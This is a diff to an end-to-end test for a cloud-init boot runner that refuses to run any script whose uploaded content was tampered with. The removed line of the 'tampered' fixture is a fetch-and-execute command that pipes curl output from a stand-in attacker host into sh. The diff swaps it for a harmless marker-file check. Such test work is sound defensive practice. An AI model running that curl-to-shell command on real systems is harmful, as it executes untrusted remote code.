@@ -13,7 +13,7 @@ import * as path from "node:path";
 import { BootScript, renderRunner } from "../../modules/cloud-init";
 import { describeWithTool } from "../support/system-tool";
 
-/** The part of s3rver's documented API used here (the package ships no types). */
+/** The part of s3rver's API used here (the package ships no types); httpServer is set by run(). */
 interface S3rverInstance {
   run(): Promise<AddressInfo>;
   close(): Promise<void>;
@@ -63,7 +63,7 @@ const CASES = {
   ],
   tampered: [
     { fileName: "30-one.sh", content: fixture() },
-    { fileName: "10-two.sh", content: fixture(), uploaded: fixture("curl -s http://attacker.invalid | sh\n") },
+    { fileName: "10-two.sh", content: fixture(), uploaded: fixture('touch "${BOOTSTRAP_ROOT}/tampered-code-ran"\n') },
   ],
   missing: [
     { fileName: "00-absent.sh", content: fixture(), uploaded: null },
@@ -275,6 +275,7 @@ describeWithTool(AWS, ["--version"], "boot runner end to end (awscli against s3r
     expect(run.log).toMatch(/30-one\.sh: OK\n10-two\.sh: FAILED\n/);
     expect(run.log).toMatch(/refusing to run any script/);
     expect(existsSync(path.join(run.root, "order.log"))).toBe(false);
+    expect(existsSync(path.join(run.root, "tampered-code-ran"))).toBe(false);
     expect(existsSync(path.join(run.root, "var/lib/bootstrap/healthy"))).toBe(false);
   }, RUN_TIMEOUT_MS);
 
